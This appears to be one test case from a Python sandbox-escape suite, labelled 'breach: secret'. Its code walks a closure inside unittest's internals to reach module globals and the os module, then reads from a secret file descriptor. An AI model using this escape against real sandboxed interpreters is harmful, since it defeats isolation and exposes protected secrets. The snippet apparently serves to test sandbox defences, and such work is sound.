# A closure of the standard library holds its function, and that its globals.
# breach: secret
import unittest
inner = unittest.case._Outcome.testPartExecutor.__closure__[0].cell_contents
inner.__globals__["contextlib"].os.pread(SECRET_FD, 100, 0)
